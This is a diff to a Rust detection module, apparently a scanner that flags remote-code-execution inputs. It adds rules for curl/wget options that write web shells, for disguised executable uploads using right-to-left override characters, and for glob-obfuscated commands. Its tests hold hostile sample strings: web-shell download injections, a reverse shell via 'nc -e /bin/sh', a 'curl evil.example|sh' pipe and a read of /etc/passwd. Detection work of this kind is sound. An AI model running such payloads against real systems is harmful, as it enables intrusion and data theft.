@@ -422,6 +422,12 @@ impl Rce {
                 RCE_SSTI,
                 r"\b_self\s*\.\s*env\s*\.|registerundefinedfiltercallback",
             ),
+            // Options that make curl or wget write what they fetch to a script the web
+            // server runs (`a.pdf" -o C:\inetpub\wwwroot\shell.aspx "https://…`).
+            (
+                RCE_ARGUMENT_INJECTION,
+                r#"(?:^|\s)(?:-o|--output|--output-document)(?:\s+|\s*=\s*)['"]?[^\s'"]{0,200}\.(?:php[0-9]?|phtml|aspx?|ashx|asmx|jspx?|cgi)\b"#,
+            ),
             // Options that make git, ssh, tar or rsync run a command of the caller's choosing.
             (
                 RCE_ARGUMENT_INJECTION,
@@ -510,8 +516,21 @@ impl Rce {
         // Programs that run only when someone runs them: homework, CI scripts and tools are
         // uploaded as these every day.
         let programs = [
-            ".sh", ".bash", ".py", ".exe", ".bat", ".cmd", ".ps1", ".vbs", ".jar",
+            ".sh", ".bash", ".py", ".exe", ".bat", ".cmd", ".ps1", ".vbs", ".jar", ".hta", ".scr",
+            ".wsf",
         ];
+        // A right-to-left override reverses what follows it on screen: `invoice\u{202E}fdp.hta`
+        // shows as `invoiceath.pdf`. No honest file name needs one to read right.
+        let encoded = || {
+            let raw = v.raw.to_ascii_lowercase();
+            raw.contains("%e2%80%ad") || raw.contains("%e2%80%ae")
+        };
+        if v.raw
+            .contains(['\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}'])
+            || encoded()
+        {
+            sink.hit(RCE_UPLOAD_DISGUISED, base, 0);
+        }
         if served.iter().any(|s| base.ends_with(s)) {
             sink.hit(RCE_UPLOAD_SCRIPT, base, 0);
         } else if programs.iter().any(|s| base.ends_with(s)) {
@@ -532,7 +551,21 @@ impl Rce {
     /// Glob words (`ca?`, `/???/n?`) that match a known command; needs two literal characters
     /// so a lone `??` is not a command.
     fn glob_command(&self, word: &str) -> bool {
-        let literal = word.bytes().filter(|b| b.is_ascii_alphanumeric()).count();
+        // A bracket expression stands for one character: `*[other]` (Fluent's default
+        // variant) fixes one letter of a name, which no command search relies on.
+        let mut literal = 0;
+        let mut in_bracket = false;
+        for b in word.bytes() {
+            match b {
+                b'[' if !in_bracket => {
+                    in_bracket = true;
+                    literal += 1;
+                }
+                b']' => in_bracket = false,
+                _ if !in_bracket && b.is_ascii_alphanumeric() => literal += 1,
+                _ => {}
+            }
+        }
         if literal < 2 || word.len() > 32 {
             return false;
         }
@@ -1457,6 +1490,8 @@ mod tests {
                 "${{<%[%'\"}}%\\.",
                 "--upload-pack=touch /tmp/pwned",
                 "-oProxyCommand=curl evil.example|sh",
+                "https://example.jp/a.pdf\u{FF02} -o C:\\inetpub\\wwwroot\\shell.aspx \u{FF02}https://evil.example/s",
+                "x --output=/var/www/html/s.php",
                 "@{[system \"touch /tmp/blns.fail\"]}",
                 "system 'cat /etc/hosts'",
                 "exec \"nc -e /bin/sh 10.0.0.1 4444\"",
@@ -1688,6 +1723,12 @@ mod tests {
         silent("rce", &["C*T", "c?t", "Ma*"]);
         // SCPI's common commands lead with a star.
         silent("rce", &["*RST;*CLS", "*IDN?;*OPC?"]);
+        // Fluent's default variant fixes one letter of a name; `/???/c[a]t` fixes three.
+        silent(
+            "rce",
+            &["emails = { $count ->\n    [one] eine E-Mail.\n   *[other] { $count } E-Mails.\n}"],
+        );
+        flags("rce", &["1;/???/c[a]t /etc/passwd"]);
         // A dash standing alone is no option: a bank export's `;`-separated line.
         silent(
             "rce",
@@ -1757,6 +1798,20 @@ mod tests {
             assert_eq!(h.contains(&RCE_UPLOAD_PROGRAM), program, "{name}: {h:?}");
         }
         assert!(!hits(Kind::Filename, "file:f", "hw3.py", 1).contains(&RCE_UPLOAD_PROGRAM));
+        // An override hides the real extension; Arabic and Hebrew names need none.
+        for (name, disguised) in [
+            ("invoice\u{202E}fdp.hta", true),
+            ("invoice%E2%80%AEfdp.hta", true),
+            ("\u{62A}\u{642}\u{631}\u{64A}\u{631}.pdf", false),
+            ("\u{5D3}\u{5D5}\u{5D7}.pdf", false),
+        ] {
+            let h = hits(Kind::Filename, "file:f", name, 1);
+            assert_eq!(
+                h.contains(&RCE_UPLOAD_DISGUISED),
+                disguised,
+                "{name}: {h:?}"
+            );
+        }
     }
 
     #[test]
